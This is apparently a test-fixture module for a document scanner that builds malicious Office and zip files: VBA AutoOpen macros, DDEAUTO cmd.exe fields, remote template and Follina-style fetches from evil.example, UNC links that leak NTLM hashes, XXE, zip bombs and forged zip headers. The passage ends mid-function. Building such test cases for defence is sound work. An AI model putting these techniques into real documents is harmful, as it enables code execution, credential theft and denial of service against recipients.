"""Hostile OOXML, OLE2 and zip files, built at test time the way attackers build them.

Each builder returns (filename, bytes, expected `found` code). OOXML cases start from an
honest python-docx report (documents.report_docx) and add what a malicious document
needs to work in Office: the part, the relationship that points at it, the content type.
Zip tricks write the archive by hand (raw_zip) where zipfile would refuse to lie.
"""

from __future__ import annotations

import io
import random
import re
import struct
import zipfile
import zlib
from functools import cache

from . import cfb
from .documents import _report_docx, _workbook, excel_vml, with_chart
from .hostile_doc import OLE_HOSTILE

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
R_MS = "http://schemas.microsoft.com/office/2006/relationships"
DOC_RELS = "word/_rels/document.xml.rels"
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
OFFICE_TYPE = "application/vnd.openxmlformats-officedocument."


# ---- building blocks ------------------------------------------------------------


def repack(base: bytes, parts: dict[str, bytes] | None = None, edit: dict | None = None) -> bytes:
    """`base` with parts added or replaced, and `edit[name](bytes) -> bytes` applied."""
    parts, edit = parts or {}, edit or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            if item.filename in parts:
                continue
            data = src.read(item.filename)
            if item.filename in edit:
                data = edit[item.filename](data)
            dst.writestr(item.filename, data)
        for name, data in parts.items():
            dst.writestr(name, data)
    return out.getvalue()


def add_relationship(rel_type: str, target: str, external: bool = False, rel_id: str = "rIdEvil"):
    mode = ' TargetMode="External"' if external else ""
    line = f'<Relationship Id="{rel_id}" Type="{rel_type}" Target="{target}"{mode}/>'.encode()
    return lambda data: data.replace(b"</Relationships>", line + b"</Relationships>")


def add_content_type(xml: str):
    return lambda data: data.replace(b"</Types>", xml.encode() + b"</Types>")


def then(*edits):
    def apply(data: bytes) -> bytes:
        for one in edits:
            data = one(data)
        return data

    return apply


def in_body(xml: str):
    """Insert WordprocessingML into the document body, before the section properties."""
    return lambda data: re.sub(rb"(<w:sectPr)", xml.encode().replace(b"\\", b"\\\\") + rb"\1", data, count=1)


def vba_project(module: str = "ThisDocument") -> bytes:
    """A Word vbaProject.bin: VBA storage with dir, _VBA_PROJECT and a module whose
    source (compressed as MS-OVBA writes it: 'Attribut' split by flag bytes) runs on open."""
    source = (
        b'\x00Attribut\x00e VB_Nam\x00e = "'
        + module.encode()
        + b'"\r\nSub AutoOpen()\r\n  Shell "calc.exe"\r\nEnd Sub\r\n'
    )
    return cfb.write(
        {
            "VBA": {"dir": b"\x01" + b"\x00" * 200, "_VBA_PROJECT": b"\xcc\x61" + b"\xff" * 5, module: source},
            "PROJECT": f'ID="{{00000000-0000-0000-0000-000000000000}}"\r\nDocument={module}/&H00000000\r\n'.encode(),
            "PROJECTwm": module.encode() + b"\x00" + module.encode("utf-16-le") + b"\x00\x00",
        },
        clsid=b"\0" * 16,
    )


def local_header(entry: dict) -> bytes:
    """A zip local file header, name and extra for an entry (name, data as stored, method,
    crc, size; optional flags, extra). `entry["local"]` overrides fields in this header only
    (what a streaming reader believes): name, flags, method, crc, packed, size, extra."""
    e = {"flags": 0, "extra": b"", "packed": len(entry["data"]), **entry, **entry.get("local", {})}
    name = e["name"].encode() if isinstance(e["name"], str) else e["name"]
    fields = (20, e["flags"], e["method"], 0, 0x21, e["crc"], e["packed"], e["size"], len(name), len(e["extra"]))
    return struct.pack("<4s5H3L2H", b"PK\x03\x04", *fields) + name + e["extra"]


def central_record(record: dict) -> bytes:
    """A central-directory record pointing at `record["offset"]` (which may point anywhere)."""
    r = {"flags": 0, "extra": b"", "packed": len(record["data"]), **record}
    name = r["name"].encode() if isinstance(r["name"], str) else r["name"]
    sizes = (r["crc"], r["packed"], r["size"], len(name), len(r["extra"]))
    return (
        struct.pack(
            "<4s6H3L5H2L", b"PK\x01\x02", 20, 20, r["flags"], r["method"], 0, 0x21, *sizes, 0, 0, 0, 0, r["offset"]
        )
        + name
        + r["extra"]
    )


def raw_zip(entries: list[dict], directory: list[dict] | None = None) -> bytes:
    """A zip written field by field. entries: name, data (as stored), method, crc, size,
    optional flags, extra, local (see local_header) and after (bytes written after the
    data: a data descriptor); directory: the central records (default: one per entry),
    each may point anywhere."""
    body = io.BytesIO()
    offsets = []
    for e in entries:
        offsets.append(body.tell())
        body.write(local_header(e) + e["data"] + e.get("after", b""))
    records = directory or [dict(e, offset=o) for e, o in zip(entries, offsets, strict=True)]
    cd_offset = body.tell()
    for r in records:
        body.write(central_record(r))
    cd_size = body.tell() - cd_offset
    body.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(records), len(records), cd_size, cd_offset, 0))
    return body.getvalue()


def docx_entries() -> list[dict]:
    """The honest report's parts as raw_zip entries (deflated)."""
    out = []
    with zipfile.ZipFile(io.BytesIO(_report_docx())) as z:
        for item in z.infolist():
            data = z.read(item.filename)
            packer = zlib.compressobj(6, zlib.DEFLATED, -15)
            out.append(
                dict(
                    name=item.filename,
                    data=packer.compress(data) + packer.flush(),
                    method=8,
                    crc=zlib.crc32(data),
                    size=len(data),
                )
            )
    return out


@cache
def zeros_deflated(size: int) -> bytes:
    """A raw deflate stream of `size` zero bytes (a whole number of MiB), built from one
    repeated full-flush block: 1 GiB costs ~1 MB and no gigabyte of work here."""
    mib = b"\0" * (1 << 20)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(mib) + packer.flush(zlib.Z_FULL_FLUSH)
    return block * (size >> 20) + packer.flush()


# ---- OOXML: what makes a document unsafe ------------------------------------------


def docx_renamed_vba() -> tuple[str, bytes, str]:
    """vbaProject.bin renamed word/editdata.bin, found by its relationship and content type."""
    return (
        "invoice.docx",
        repack(
            _report_docx(),
            {"word/editdata.bin": vba_project()},
            {
                DOC_RELS: add_relationship(f"{R_MS}/vbaProject", "editdata.bin"),
                "[Content_Types].xml": then(
                    lambda d: d.replace(b"wordprocessingml.document.main+xml", b"XX").replace(
                        b"application/vnd.openxmlformats-officedocument.XX", MACRO_MAIN.encode()
                    ),
                    add_content_type('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
                ),
            },
        ),
        "macro",
    )


def docx_vba_relationship_only() -> tuple[str, bytes, str]:
    """A vbaProject relationship to a part named like a picture, no content type change."""
    return (
        "photo-album.docx",
        repack(
            _report_docx(),
            {"word/media/image9.png": vba_project()},
            {DOC_RELS: add_relationship(f"{R_MS}/vbaProject", "media/image9.png")},
        ),
        "macro",
    )


def docx_macro_enabled_type() -> tuple[str, bytes, str]:
    """A .docm renamed .docx: only the main part's content type says macroEnabled."""
    edit = {
        "[Content_Types].xml": lambda d: re.sub(
            rb'(PartName="/word/document.xml" ContentType=")[^"]+', b"\\1" + MACRO_MAIN.encode(), d
        )
    }
    return "report.docx", repack(_report_docx(), edit=edit), "macro"


def docx_remote_template() -> tuple[str, bytes, str]:
    """Template injection: settings.xml attaches a .dotm fetched when the document opens."""
    settings_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{R_OFFICE}/attachedTemplate" '
        'Target="https://evil.example/templates/normal.dotm" TargetMode="External"/></Relationships>'
    ).encode()
    edit = {
        "word/settings.xml": lambda d: d.replace(b"</w:settings>", b'<w:attachedTemplate r:id="rId1"/></w:settings>')
    }
    return (
        "cv.docx",
        repack(_report_docx(), {"word/_rels/settings.xml.rels": settings_rels}, edit),
        "external_relationship",
    )


def docx_follina() -> tuple[str, bytes, str]:
    """CVE-2022-30190: an external oleObject whose target is an mhtml: URL."""
    target = "mhtml:https://evil.example/payload.html!x-usc:https://evil.example/payload.html"
    return (
        "salary.docx",
        repack(_report_docx(), edit={DOC_RELS: add_relationship(f"{R_OFFICE}/oleObject", target, external=True)}),
        ("external_relationship"),
    )


def docx_external_frame() -> tuple[str, bytes, str]:
    """A frame loaded from a remote host (webSettings frameset)."""
    rels = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId9" Type="{R_OFFICE}/frame" Target="https://evil.example/frame.html"'
        ' TargetMode="External"/>'
        "</Relationships>"
    ).encode()
    return "frames.docx", repack(_report_docx(), {"word/_rels/webSettings.xml.rels": rels}), "external_relationship"


def docx_unc_hyperlink() -> tuple[str, bytes, str]:
    """A hyperlink to an SMB share (leaks the reader's NTLM hash when followed)."""
    return (
        "links.docx",
        repack(
            _report_docx(),
            edit={DOC_RELS: add_relationship(f"{R_OFFICE}/hyperlink", "file://evil.example/share/x.docx", True)},
        ),
        "external_relationship",
    )


def docx_embedded_ole() -> tuple[str, bytes, str]:
    """word/embeddings/oleObject1.bin behind an internal oleObject relationship."""
    ole = cfb.write({"\x01Ole10Native": b"\x10\x00\x00\x00payload.exe\x00" + b"MZ" * 100}, clsid=b"\0" * 16)
    return (
        "memo.docx",
        repack(
            _report_docx(),
            {"word/embeddings/oleObject1.bin": ole},
            {DOC_RELS: add_relationship(f"{R_OFFICE}/oleObject", "embeddings/oleObject1.bin")},
        ),
        "ole_object",
    )


def docx_hidden_ole() -> tuple[str, bytes, str]:
    """An OLE2 compound file hidden under a picture's name, with nothing pointing at it."""
    return "pictures.docx", repack(_report_docx(), {"word/media/image7.png": vba_project()}), "ole_object"


def docx_activex() -> tuple[str, bytes, str]:
    """ActiveX under word/controls/ (not word/activeX/): found by relationship and type."""
    control = (
        b'<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"'
        b' ax:classid="{8856F961-340A-11D0-A96B-00C04FD705A2}"/>'
    )
    return (
        "form.docx",
        repack(
            _report_docx(),
            {"word/controls/ctl1.xml": control},
            {
                DOC_RELS: add_relationship(f"{R_OFFICE}/control", "controls/ctl1.xml"),
                "[Content_Types].xml": add_content_type(
                    '<Override PartName="/word/controls/ctl1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>'
                ),
            },
        ),
        "activex",
    )


def docx_alt_chunk() -> tuple[str, bytes, str]:
    """An altChunk importing an HTML page into the document."""
    return (
        "newsletter.docx",
        repack(
            _report_docx(),
            {"word/afchunk.htm": b"<html><body><script>alert(1)</script></body></html>"},
            {
                DOC_RELS: add_relationship(f"{R_OFFICE}/aFChunk", "afchunk.htm", rel_id="rIdAlt"),
                "word/document.xml": in_body(f'<w:altChunk xmlns:r="{R_OFFICE}" r:id="rIdAlt"/>'),
            },
        ),
        "alt_chunk",
    )


def docx_ddeauto() -> tuple[str, bytes, str]:
    """DDEAUTO split across runs, as the 2017 campaigns wrote it."""
    field = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r>'
        '<w:r><w:instrText xml:space="preserve">AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'
        "</w:instrText></w:r>"
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return "order.docx", repack(_report_docx(), edit={"word/document.xml": in_body(field)}), "dde"


def docx_strict_ddeauto() -> tuple[str, bytes, str]:
    """The same field in a Strict Open XML document (purl.oclc.org namespace), which Word opens."""
    strict = b"http://purl.oclc.org/ooxml/wordprocessingml/main"
    name, data, found = docx_ddeauto()
    return "strict.docx", repack(data, edit={"word/document.xml": lambda d: d.replace(W.encode(), strict)}), found


def docx_dde_simple_field() -> tuple[str, bytes, str]:
    """DDE in a fldSimple's w:instr attribute, in the footer (a story part too)."""
    field = (
        '<w:fldSimple w:instr="DDE &quot;c:\\\\windows\\\\system32\\\\cmd.exe&quot; &quot;/c calc&quot;">'
        "<w:r><w:t>1</w:t></w:r></w:fldSimple>"
    )

    def edit(data: bytes) -> bytes:
        return re.sub(rb"(<w:p\b[^>]*>)", lambda m: m.group(1) + field.encode(), data, count=1)

    return "footer.docx", repack(_report_docx(), edit={"word/footer1.xml": edit}), "dde"


def xlsx_dde_formula() -> tuple[str, bytes, str]:
    """The classic CSV/DDE injection, as a workbook formula: =cmd|' /C calc'!A0."""
    import openpyxl

    book = openpyxl.Workbook()
    book.active["A1"] = "Total"
    book.active["B1"] = "=cmd|' /C calc'!A0"
    out = io.BytesIO()
    book.save(out)
    return "totals.xlsx", out.getvalue(), "dde"


def docx_chart_workbook_with_dde() -> tuple[str, bytes, str]:
    """A chart whose embedded workbook carries a DDE formula: the embedded file is inspected too."""
    return "chart.docx", with_chart(_report_docx(), _workbook("=cmd|' /C calc'!A0")), "dde"


def docx_chart_workbook_with_macros() -> tuple[str, bytes, str]:
    """A chart's workbook that is really an .xlsm (macroEnabled main content type)."""
    macro_book = repack(
        _workbook(),
        edit={
            "[Content_Types].xml": lambda d: d.replace(b"spreadsheetml.sheet.main+xml", b"XX").replace(
                b"application/vnd.openxmlformats-officedocument.XX",
                b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
            )
        },
    )
    return "chart.docx", with_chart(_report_docx(), macro_book), "macro"


def docx_package_not_a_document() -> tuple[str, bytes, str]:
    """A package relationship to an executable named like a workbook."""
    return "chart.docx", with_chart(_report_docx(), b"MZ\x90\x00" + b"\x00" * 5000), "ole_object"


def xlsx_excel4_macro_sheet() -> tuple[str, bytes, str]:
    """An Excel 4.0 (XLM) macro sheet added to a workbook, with auto_open; no VBA at all."""
    sheet = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        b'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1">'
        b'<f>EXEC("calc.exe")</f></c></row></sheetData></xm:macrosheet>'
    )
    edit = {
        "xl/_rels/workbook.xml.rels": add_relationship(f"{R_MS}/xlMacrosheet", "macrosheets/sheet1.xml"),
        "[Content_Types].xml": add_content_type(
            '<Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'
        ),
    }
    return "report.xlsx", repack(_workbook(), {"xl/macrosheets/sheet1.xml": sheet}, edit), "macro"


def docx_xxe() -> tuple[str, bytes, str]:
    """An external entity in document.xml (XXE): read /etc/passwd into the text."""
    return (
        "xxe.docx",
        repack(
            _report_docx(),
            edit={
                "word/document.xml": lambda d: d.replace(
                    b"?>", b'?><!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>', 1
                )
            },
        ),
        "malformed",
    )


def docx_billion_laughs() -> tuple[str, bytes, str]:
    laughs = (
        '<!DOCTYPE r [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
        '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
    )
    return (
        "laughs.docx",
        repack(_report_docx(), edit={"[Content_Types].xml": lambda d: d.replace(b"?>", b"?>" + laughs.encode(), 1)}),
        ("malformed"),
    )


# ---- OOXML: what Office resolves, whatever the names say ----------------------------

WORD_PART = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    f'<w:{{root}} xmlns:w="{W}" xmlns:r="{R_OFFICE}" xmlns:o="urn:schemas-microsoft-com:office:office"'
    ' xmlns:v="urn:schemas-microsoft-com:vml">{body}</w:{root}>'
)


def complex_field(instruction: str, result: str = "x") -> str:
    """A complex field, its instruction split across two runs as Word splits them."""
    middle = len(instruction) // 2
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>'
        for piece in (instruction[:middle], instruction[middle:])
    )
    return (
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f'<w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def with_header(part_name: str, header: bytes, content_type: str | None = None) -> bytes:
    """The report with one more header part at `part_name`, related as a header and
    referenced from the section, as Word writes one."""
    target = part_name.removeprefix("word/")
    edit = {
        DOC_RELS: add_relationship(f"{R_OFFICE}/header", target, rel_id="rIdHdr"),
        "word/document.xml": lambda d: d.replace(
            b"<w:footerReference", b'<w:headerReference w:type="default" r:id="rIdHdr"/><w:footerReference', 1
        ),
    }
    if content_type:
        edit["[Content_Types].xml"] = add_content_type(content_type)
    return repack(_report_docx(), {part_name: header}, edit)


def docx_dde_header_named_bin() -> tuple[str, bytes, str]:
    """A header named word/header2.bin holding WordprocessingML with DDEAUTO (LibreOffice
    loads it by its relationship; only .xml names were parsed)."""
    body = "<w:p>" + complex_field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ') + "</w:p>"
    header = WORD_PART.format(root="hdr", body=body).encode()
    ctype = f'<Default Extension="bin" ContentType="{OFFICE_TYPE}wordprocessingml.header+xml"/>'
    return "header.docx", with_header("word/header2.bin", header, ctype), "dde"


def docx_dde_header_no_content_type() -> tuple[str, bytes, str]:
    """The same header with no content type at all: still parsed, by what its bytes are."""
    body = "<w:p>" + complex_field(" DDE cmd.exe /c calc ") + "</w:p>"
    return "header2.docx", with_header("word/media/hdr.dat", WORD_PART.format(root="hdr", body=body).encode()), "dde"


def docx_header_not_xml() -> tuple[str, bytes, str]:
    """A header relationship to bytes that are not XML (UTF-32, which some readers decode)."""
    body = "<w:p>" + complex_field(" DDE cmd.exe /c calc ") + "</w:p>"
    header = WORD_PART.format(root="hdr", body=body).replace('encoding="UTF-8"', 'encoding="UTF-32"')
    return "utf32.docx", with_header("word/header2.xml", header.encode("utf-32-be")), "malformed"


def _external_hyperlink_used_by(rels_part: str, source: str, edit, name: str) -> tuple[str, bytes, str]:
    rel = add_relationship(f"{R_OFFICE}/hyperlink", "https://evil.example/x", external=True, rel_id="rIdLink")
    rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    )
    with zipfile.ZipFile(io.BytesIO(_report_docx())) as z:
        present = rels_part in z.namelist()
    added = {} if present else {rels_part: rel(rels)}
    edits = {source: edit}
    if present:
        edits[rels_part] = rel
    return name, repack(_report_docx(), added, edits), "external_relationship"


def docx_hyperlink_used_as_image() -> tuple[str, bytes, str]:
    """A hyperlink relationship used by the picture's a:blip r:link: fetched on open (a tracking pixel)."""
    return _external_hyperlink_used_by(
        DOC_RELS, "word/document.xml", lambda d: d.replace(b"<a:blip ", b'<a:blip r:link="rIdLink" ', 1), "pixel.docx"
    )


def docx_hyperlink_used_as_template() -> tuple[str, bytes, str]:
    """A hyperlink relationship used by w:attachedTemplate: the template is fetched on open."""
    return _external_hyperlink_used_by(
        "word/_rels/settings.xml.rels",
        "word/settings.xml",
        lambda d: d.replace(b"</w:settings>", b'<w:attachedTemplate r:id="rIdLink"/></w:settings>'),
        "template.docx",
    )


def docx_hyperlink_used_as_subdocument() -> tuple[str, bytes, str]:
    """A master document's w:subDoc pointing at a hyperlink relationship."""
    return _external_hyperlink_used_by(
        DOC_RELS, "word/document.xml", in_body('<w:p><w:subDoc r:id="rIdLink"/></w:p>'), "master.docx"
    )


def docx_hyperlink_used_as_ole_link() -> tuple[str, bytes, str]:
    """A linked OLE object (o:OLEObject Type="Link") whose link is a hyperlink relationship."""
    ole = (
        '<w:p><w:r><w:object><v:shape id="s1" style="width:10pt;height:10pt"/>'
        '<o:OLEObject Type="Link" ProgID="Excel.Sheet.12" ShapeID="s1" r:id="rIdLink" UpdateMode="Always"/>'
        "</w:object></w:r></w:p>"
    )
    return _external_hyperlink_used_by(DOC_RELS, "word/document.xml", in_body(ole), "linked.docx")


def docx_hyperlink_used_as_frame() -> tuple[str, bytes, str]:
    """A frameset in webSettings whose frame's source is a hyperlink relationship."""
    frames = b'<w:frameset><w:frame><w:sourceFileName r:id="rIdLink"/></w:frame></w:frameset>'
    return _external_hyperlink_used_by(
        "word/_rels/webSettings.xml.rels",
        "word/webSettings.xml",
        lambda d: d.replace(b"</w:webSettings>", frames + b"</w:webSettings>"),
        "frames2.docx",
    )


def docx_unc_relative_looking_link() -> tuple[str, bytes, str]:
    """A hyperlink with no scheme that is a host all the same (\\\\host\\share, percent-encoded)."""
    target = "%5C%5Cevil.example%5Cshare%5Cdoc.docx"
    return (
        "unc.docx",
        repack(_report_docx(), edit={DOC_RELS: add_relationship(f"{R_OFFICE}/hyperlink", target, True)}),
        "external_relationship",
    )


def docx_internal_mode_url() -> tuple[str, bytes, str]:
    """A template whose relationship leaves out TargetMode but names a URL all the same."""
    settings_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{R_OFFICE}/attachedTemplate" Target="https://evil.example/t.dotm"/>'
        "</Relationships>"
    ).encode()
    return "mode.docx", repack(_report_docx(), {"word/_rels/settings.xml.rels": settings_rels}), "external_relationship"


def _with_body(xml: str, name: str, found: str) -> tuple[str, bytes, str]:
    return name, repack(_report_docx(), edit={"word/document.xml": in_body(xml)}), found


def docx_includepicture() -> tuple[str, bytes, str]:
    """INCLUDEPICTURE with \\d: the picture is fetched every time the document opens."""
    field = complex_field(' INCLUDEPICTURE "https://evil.example/p.png" \\\\d ')
    return _with_body(f"<w:p>{field}</w:p>", "picture.docx", "external_field")


def docx_includetext_simple() -> tuple[str, bytes, str]:
    instruction = " INCLUDETEXT &quot;\\\\\\\\evil.example\\\\share\\\\x.docx&quot; "
    field = f'<w:fldSimple w:instr="{instruction}"><w:r><w:t>x</w:t></w:r></w:fldSimple>'
    return _with_body(f"<w:p>{field}</w:p>", "include.docx", "external_field")


def docx_link_nested_in_if() -> tuple[str, bytes, str]:
    """A LINK field nested in an IF's result: Word updates the inner field on its own."""
    inner = complex_field(' LINK Excel.Sheet.12 "https://evil.example/book.xlsx" "Sheet1!R1C1" \\\\a ')
    outer = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> IF 1 = 1 "'
        f'</w:instrText></w:r>{inner}<w:r><w:instrText xml:space="preserve">" "" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    return _with_body(f"<w:p>{outer}</w:p>", "nested.docx", "external_field")


def docx_quote_computed_dde() -> tuple[str, bytes, str]:
    """`{ {QUOTE 68 68 69 65 85 84 79} c:\\...cmd.exe }`: the keyword is what QUOTE yields, DDEAUTO."""
    quote = complex_field(" QUOTE 68 68 69 65 85 84 79 ", "DDEAUTO")
    outer = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'{quote}<w:r><w:instrText xml:space="preserve"> c:\\\\windows\\\\cmd.exe "/k calc" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    return _with_body(f"<w:p>{outer}</w:p>", "quote.docx", "external_field")


def docx_huge_instruction() -> tuple[str, bytes, str]:
    """A 1.6 MB document whose one w:instrText holds 250 MB (inflated) of text (the pieces
    cap counted expat's callbacks, not characters: 538 MB of memory)."""
    with zipfile.ZipFile(io.BytesIO(_report_docx())) as z:
        document = z.read("word/document.xml")
    head, tail = document.split(b"<w:sectPr", 1)
    prefix = head + b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
    suffix = b'</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p><w:sectPr' + tail
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = packer.compress(prefix) + packer.flush(zlib.Z_FULL_FLUSH)
    mib = b"A" * (1 << 20)
    block = packer.compress(mib) + packer.flush(zlib.Z_FULL_FLUSH)
    deflated = start + block * 250 + packer.compress(suffix) + packer.flush()
    crc = zlib.crc32(prefix)
    for _ in range(250):
        crc = zlib.crc32(mib, crc)
    crc = zlib.crc32(suffix, crc)
    entries = [e for e in docx_entries() if e["name"] != "word/document.xml"]
    size = len(prefix) + 250 * len(mib) + len(suffix)
    entries.append(dict(name="word/document.xml", data=deflated, method=8, crc=crc, size=size))
    entries.append(stored("word/media/photo.bin", random.Random(17).randbytes(1_300_000)))
    return "fields.docx", raw_zip(entries), "zip_limits"


def docx_huge_simple_field() -> tuple[str, bytes, str]:
    """A w:fldSimple whose w:instr attribute is 40 MB: expat holds a whole tag before reporting it."""
    with zipfile.ZipFile(io.BytesIO(_report_docx())) as z:
        document = z.read("word/document.xml")
    big = b'<w:p><w:fldSimple w:instr="' + b"A" * (40 << 20) + b'"/></w:p>'
    document = document.replace(b"<w:sectPr", big + b"<w:sectPr", 1)
    entries = [e for e in docx_entries() if e["name"] != "word/document.xml"]
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    entries.append(
        dict(
            name="word/document.xml",
            data=packer.compress(document) + packer.flush(),
            method=8,
            crc=zlib.crc32(document),
            size=len(document),
        )
    )
    # Noise media, so that the file is 1.4 MB and the ratio limit (200x) does not decide first.
    entries.append(stored("word/media/photo.bin", random.Random(18).randbytes(1_300_000)))
    return "attribute.docx", raw_zip(entries), "zip_limits"


def docx_jar_inside() -> tuple[str, bytes, str]:
    """A runnable JAR in a document: a manifest naming a main class (`java -jar report.docx`)."""
    parts = {
        "META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\r\nMain-Class: Main\r\n\r\n",
        "Main.class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 200,
    }
    return "jar.docx", repack(_report_docx(), parts), "polyglot"


def docx_tag_soup_header() -> tuple[str, bytes, str]:
    """VML tag soup (accepted in a workbook's legacy drawing) reached as a header."""
    ctype = f'<Override PartName="/word/header2.vml" ContentType="{OFFICE_TYPE}vmlDrawing"/>'
    return "soup.docx", with_header("word/header2.vml", excel_vml(), ctype), "malformed"


# ---- zip tricks --------------------------------------------------------------------


def docx_zeros_bomb() -> tuple[str, bytes, str]:
    """49 MiB of zeros in a small docx: the ratio limit, on bytes really inflated."""
    return "bomb.docx", repack(_report_docx(), {"word/media/filler.bin": b"\0" * (49 << 20)}), "zip_bomb"


def docx_overlapping_entries() -> tuple[str, bytes, str]:
    """One deflated blob (2 MiB of zeros) referenced by 400 directory records: 800 MiB
    if each were inflated, each record's sizes honest and the declared total within limits."""
    entries = docx_entries()
    blob = dict(name="word/media/blob.bin", data=zeros_deflated(2 << 20), method=8, crc=0, size=2 << 20)
    blob["crc"] = _crc_of_zeros(2 << 20)
    entries.append(blob)
    records = [dict(e, offset=o) for e, o in zip(entries, _offsets(entries), strict=True)]
    extra = [dict(blob, name=f"word/media/copy{i}.bin", offset=records[-1]["offset"]) for i in range(399)]
    return "overlap.docx", raw_zip(entries, records + extra), "zip_bomb"


def docx_lying_size() -> tuple[str, bytes, str]:
    """An entry whose headers say 1,000 bytes over a stream that inflates to 1 GiB."""
    entries = docx_entries()
    entries.append(dict(name="word/media/small.bin", data=zeros_deflated(1 << 30), method=8, crc=0, size=1000))
    return "liar.docx", raw_zip(entries), "zip_bomb"


def docx_exe_in_front() -> tuple[str, bytes, str]:
    """An executable stub in front, offsets adjusted (what `zip -A` does for SFX archives)."""
    out = io.BytesIO(b"MZ\x90\x00" + b"\x00" * 4000)
    out.seek(0, io.SEEK_END)
    with zipfile.ZipFile(io.BytesIO(_report_docx())) as src, zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            dst.writestr(item.filename, src.read(item.filename))
    return "setup.docx", out.getvalue(), "leading_data"


def docx_html_in_front() -> tuple[str, bytes, str]:
    """An HTML page in front of an unchanged zip (offsets not adjusted)."""
    return "page.docx", b"<html><script>alert(document.domain)</script></html>" + _report_docx(), "leading_data"


def docx_html_after() -> tuple[str, bytes, str]:
    return "tail.docx", _report_docx() + b"<html><script>alert(1)</script></html>", "trailing_data"


def docx_bad_crc() -> tuple[str, bytes, str]:
    entries = docx_entries()
    entries[-1]["crc"] ^= 0xFFFF
    return "crc.docx", raw_zip(entries), "malformed"


def docx_many_entries() -> tuple[str, bytes, str]:
    entries = docx_entries() + [
        dict(name=f"customXml/i{i}.xml", data=b"", method=0, crc=0, size=0) for i in range(10_001)
    ]
    return "many.docx", raw_zip(entries), "zip_limits"


def docx_long_name() -> tuple[str, bytes, str]:
    entries = docx_entries() + [dict(name="word/" + "a" * 2000 + ".xml", data=b"", method=0, crc=0, size=0)]
    return "long.docx", raw_zip(entries), "zip_limits"


def docx_huge_directory() -> tuple[str, bytes, str]:
    """4,600 entries with 1,000-byte names: a 4.6 MB directory, each name within limits."""
    entries = docx_entries() + [
        dict(name=f"customXml/{i:05d}" + "b" * 985 + ".xml", data=b"", method=0, crc=0, size=0) for i in range(4600)
    ]
    return "directory.docx", raw_zip(entries), "zip_limits"


def stored(name: str, data: bytes, **fields) -> dict:
    """A raw_zip entry holding `data` uncompressed."""
    return dict(name=name, data=data, method=0, crc=zlib.crc32(data), size=len(data), **fields)


def _dde_document() -> bytes:
    """The honest report's document.xml with a DDEAUTO field in its body."""
    with zipfile.ZipFile(io.BytesIO(docx_ddeauto()[1])) as z:
        return z.read("word/document.xml")


def docx_local_header_hides_an_entry() -> tuple[str, bytes, str]:
    """A stored picture whose local header says it is shorter than the directory does:
    a streaming reader (Java's ZipInputStream) stops there and reads the next bytes as a
    second word/document.xml (with DDEAUTO); unzip and Office see one picture."""
